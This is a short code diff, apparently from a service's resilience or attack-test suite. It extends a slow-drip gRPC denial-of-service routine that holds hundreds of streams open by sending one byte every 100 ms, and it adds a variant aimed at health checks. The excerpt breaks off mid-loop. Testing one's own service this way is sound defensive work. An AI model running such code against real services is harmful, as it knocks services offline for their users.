@@ -5,7 +5,7 @@ import socket
 import time
 from typing import Any
 
-from attacks.peer import SCORE, Peer, connected, grpc_message
+from attacks.peer import CHECK, SCORE, Peer, connected, grpc_message
 
 _PACE_S = 0.005
 """Time between two connections."""
@@ -51,13 +51,20 @@ def _open(held: socket.socket) -> bool:
         return False
 
 
-def dribbled_calls(address: str, connections: int = 4, streams: int = 100, seconds: float = 14.0) -> dict[str, Any]:
-    """Score requests that arrive one byte every 100 ms, on many streams at once, and never end within the attack."""
+def dribbled_checks(address: str, connections: int = 4, streams: int = 100, seconds: float = 14.0) -> dict[str, Any]:
+    """The same with health checks, which whoever asks for liveness has to come past."""
+    return dribbled_calls(address, connections, streams, seconds, CHECK)
+
+
+def dribbled_calls(
+    address: str, connections: int = 4, streams: int = 100, seconds: float = 14.0, method: str = SCORE
+) -> dict[str, Any]:
+    """Requests that arrive one byte every 100 ms, on many streams at once, and never end within the attack."""
     message = grpc_message(b"\x12\x7f" + b"a" * 127 + b"\x1a\x7f" + b"b" * 127)
     peers = [Peer(address) for _ in range(connections)]
     started_s = time.monotonic()
     try:
-        opened = [(peer, peer.open_call(SCORE)) for peer in peers for _ in range(streams)]
+        opened = [(peer, peer.open_call(method)) for peer in peers for _ in range(streams)]
         for number in range(min(len(message) - 1, int(10 * seconds))):
             for peer, stream in opened:
                 if not peer.calls[stream].ended:
